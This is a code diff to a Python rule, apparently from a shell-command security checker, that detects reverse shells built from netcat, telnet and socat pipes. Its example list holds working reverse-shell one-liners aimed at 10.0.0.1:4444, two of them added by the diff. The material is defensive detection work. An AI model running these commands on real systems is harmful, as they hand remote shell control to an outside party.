@@ -12,7 +12,7 @@ from collections.abc import Iterator
 
 from nacre.patterns import later
 from nacre.policy.rule import Around, Hit, Rule
-from nacre.policy.shells import is_shell, pipes, takes_orders
+from nacre.policy.shells import is_shell, piped, takes_orders
 from nacre.shell import Command, Script
 from nacre.shell.text import DOWNLOADED, whole
 from nacre.verdict import Decision
@@ -44,14 +44,18 @@ def started(command: Command) -> Iterator[tuple[str, str]]:
 
 def in_script(script: Script, around: Around) -> tuple[int, int, Hit] | None:
     """`sh -i | nc host port`; the other way round, `nc | sh`, is text from the network that a shell runs."""
-    if not any(command.name in (*NETCATS, "telnet") for command in script.commands):
+    if not any(map(_connects, script.commands)):
         return None
-    for left, right in pipes(script):
-        if right.name in (*NETCATS, "telnet") and takes_orders(left):
-            return left.start, right.end, Hit()
-        if left.name in (*NETCATS, "telnet") and takes_orders(right) and DOWNLOADED in (right.stdin or ""):
-            return left.start, right.end, Hit()
-    return None
+    served = piped(script, takes_orders, _connects, through=True)
+    return served or piped(script, _connects, _takes_downloaded, through=True)
+
+
+def _connects(command: Command) -> bool:
+    return command.name in NETCATS or command.name == "telnet"
+
+
+def _takes_downloaded(command: Command) -> bool:
+    return takes_orders(command) and DOWNLOADED in (command.stdin or "")
 
 
 RULE = Rule(
@@ -74,6 +78,8 @@ RULE = Rule(
         "mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > f",
         "nc -l 4444 < f | bash > f 2>&1",
         "telnet 10.0.0.1 4444 | sh | telnet 10.0.0.1 4445",
+        "bash -i 2>&1 | tee shell.log | nc 10.0.0.1 4444",
+        "c='bash -i | nc 10.0.0.1 4444'; eval \"$c\"",
         "socat exec:'bash -li',pty tcp:10.0.0.1:4444",
         "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
     ),
